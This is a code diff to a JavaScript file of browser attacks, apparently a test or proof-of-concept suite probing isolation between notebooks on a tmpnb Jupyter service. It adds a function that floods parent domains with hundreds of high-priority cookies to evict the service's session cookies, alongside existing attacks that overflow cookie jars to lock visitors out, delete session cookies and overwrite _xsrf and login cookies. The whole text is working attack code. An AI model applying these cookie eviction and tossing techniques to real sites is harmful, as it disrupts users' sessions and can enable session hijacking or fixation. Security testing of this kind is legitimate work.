@@ -161,6 +161,12 @@ ATTACKS.lock_its_visitor_out_of_the_service = async () => {
     for (let number = 0; number < 60; number++) document.cookie = `overflow${number}=${"x".repeat(3000)}; path=/${domain}`;
   }
 };
+const pushOut = async () => {
+  for (const domain of parents()) {
+    for (let number = 0; number < 250; number++) document.cookie = `push${number}=1; path=/; secure; priority=high; domain=${domain}`;
+  }
+};
+ATTACKS.push_out_the_services_cookies = pushOut;
 ATTACKS.delete_the_services_cookies = async () => {
   for (const name of ["tmpnb-sessions", "__Host-tmpnb-sessions", "tmpnb-session", "__Host-tmpnb-session"]) {
     for (const domain of ["", ...parents().map((one) => "; domain=" + one)]) document.cookie = `${name}=; max-age=0; path=/${domain}`;
@@ -254,6 +260,8 @@ ATTACKS.share_a_worker_with_the_other_notebook = async ({ prey }) => {
 };
 ATTACKS.make_the_other_notebook_refuse_its_visitor = (known) => toss(known, ["_xsrf", "login", "tmpnb-session", "__Host-tmpnb-session"]);
 ATTACKS.lock_its_visitor_out_of_the_other_notebook = (known) => ATTACKS.lock_its_visitor_out_of_the_service(known);
+
+ATTACKS.push_out_the_other_notebooks_cookies = pushOut;
 
 // --- what browsers keep by origin
 
